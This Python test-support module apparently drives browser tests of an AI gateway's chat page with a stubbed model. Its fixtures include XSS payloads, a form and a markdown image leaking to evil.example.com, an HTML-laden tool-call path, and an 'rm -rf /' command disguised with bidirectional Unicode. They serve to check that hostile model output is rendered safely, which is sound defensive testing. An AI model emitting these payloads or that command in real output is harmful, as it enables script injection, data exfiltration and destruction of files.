"""The page at `/` in a browser, with a gateway and a stub of a model that answers what its tests say."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from service.core.rate_limits import RateLimits
from support.api_keys import create_key
from support.browser import Page, open_browser
from support.live import TOKEN, LiveGateway, live_gateway, stubbed_config
from support.upstream import Exchange, Upstream

HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>
<a href="javascript:document.title='owned'" onclick="document.title='owned'">press</a> [too](javascript:alert(1))
<svg onload="document.title='owned'"></svg> <iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
<form action="https://evil.example.com"><input name=secret></form> <style>body{display:none}</style>
![leak](https://evil.example.com/leak?q=1) <div style="position:fixed">over</div> `<b>code</b>`"""
ATTACK = {
    "index": 0,
    "id": "c1",
    "type": "function",
    "function": {"name": "read", "arguments": json.dumps({"path": "<img src=x onerror=document.title='owned'>.txt"})},
}
CALL = {"index": 0, "id": "c1", "type": "function", "function": {"name": "read", "arguments": '{"path":"no.txt"}'}}
#: A command that shows otherwise than it is, and a result of the same kind.
DISGUISED = "echo \u202egnp.exe\u2069; rm -rf \u200b/ #\U000e0041"
DISGUISED_CALL = {
    "index": 0,
    "id": "c1",
    "type": "function",
    "function": {"name": "exec", "arguments": json.dumps({"command": DISGUISED}, ensure_ascii=False)},
}
IS_OVER = "document.querySelectorAll('.answer').length == {} && !document.querySelector('[aria-label=Stop]')"


def talk(exchange: Exchange) -> None:
    """Answer by the last message, as its first word says, or else with what the user has said so far."""
    messages = exchange.body["messages"]
    said = [str(one["content"]) for one in messages if one["role"] == "user"]
    verb, _, text = said[-1].partition(" ")
    if verb == "book":
        write_a_book(exchange)
        return
    if verb == "fail":
        exchange.json(400, {"error": {"message": "the picture is too small"}})
        return
    exchange.head()
    if verb == "disguise" and messages[-1]["role"] != "tool":
        exchange.event({"tool_calls": [DISGUISED_CALL]})
        exchange.end("tool_calls")
        return
    if verb == "announce":
        announce(exchange, steps=sum(one["role"] == "tool" for one in messages))
        return
    if verb in ("think", "attack") and messages[-1]["role"] != "tool":
        exchange.event({"reasoning_content": "Let me see." if verb == "think" else HOSTILE})
        exchange.event({"tool_calls": [CALL if verb == "think" else ATTACK]})
        exchange.end("tool_calls")
        return
    for word in (HOSTILE if verb == "attack" else text if verb == "say" else " | ".join(said)).split(" "):
        exchange.event({"content": word + " "})
    if verb == "hold":
        exchange.wait()
    if verb == "break":
        exchange.send(b'data: {"error": {"message": "out of paper"}}\n\n')
        return
    exchange.end("length" if verb == "short" else "stop")


def announce(exchange: Exchange, steps: int) -> None:
    """Say something before each of two calls of a tool, which have the same id, and at the end."""
    exchange.event({"reasoning_content": f"Thought {steps}."})
    exchange.event({"content": f"Saying {steps}."})
    if steps < 2:
        exchange.event({"tool_calls": [CALL]})
    exchange.end("tool_calls" if steps < 2 else "stop")


PARAGRAPHS = 200


def write_a_book(exchange: Exchange) -> None:
    exchange.head()
    for number in range(PARAGRAPHS):
        for piece in range(8):
            exchange.event({"content": f"{'paragraph' if piece == 0 else 'word'} **{number}** and so on "})
        exchange.event({"content": "\n\n"})
    exchange.end()


@dataclass(frozen=True)
class Stage:
    gateway: LiveGateway
    page: Page
    keys: dict[str, str]

    def sign_in(self, secret: str = TOKEN, place: str = "") -> Page:
        """Load the page without a memory, and sign in."""
        page = self.page
        page.open(f"{self.gateway.url}/{place}")
        page.wait("document.querySelector('#app > *')")
        page.evaluate("sessionStorage.clear()")
        page.open(f"{self.gateway.url}/{place}")
        page.fill("#secret", secret)
        page.press("Enter")
        page.wait("document.querySelector('nav')")
        return page


def config_of(upstream: Upstream, directory: Path) -> dict[str, Any]:
    agents = [
        {"id": "main", "default": True, "workspace": str(directory), "instructions": "Be brief."},
        {"id": "asker", "workspace": str(directory), "tools": {"alsoAllow": ["exec"], "approvals": {"*": "ask"}}},
    ]
    config = stubbed_config(upstream.url, "stub/talk", agents=agents)
    config["gateway"]["controlUi"] = {"enabled": True}
    return config


@contextmanager
def open_stage(upstream: Upstream, directory: Path) -> Iterator[Stage]:
    """Start a gateway and a browser; the page must not have had a problem at the end."""
    upstream.answers["talk"] = talk
    config = config_of(upstream, directory)
    with live_gateway(directory / "gateway", config) as gateway, open_browser(directory / "browser") as page:
        keys = {scope: create_key(gateway.state_dir, scope)[0] for scope in ("chat", "read", "write")}
        keys["limited"] = create_key(gateway.state_dir, limits=RateLimits(1))[0]
        keys["expired"] = create_key(gateway.state_dir, expires_in=-1)[0]
        yield Stage(gateway, page, keys)
        assert page.problems == []


def ask(page: Page, text: str) -> None:
    """Send a message and wait for the end of its answer."""
    count = page.evaluate("document.querySelectorAll('.answer').length")
    page.fill("#message", text)
    page.press("Enter")
    page.wait(IS_OVER.format(count + 1))


def answers(page: Page) -> list[str]:
    shown: list[str] = page.evaluate(
        "[...document.querySelectorAll('.answer .markdown')].map(one => one.innerText.trim())"
    )
    return shown
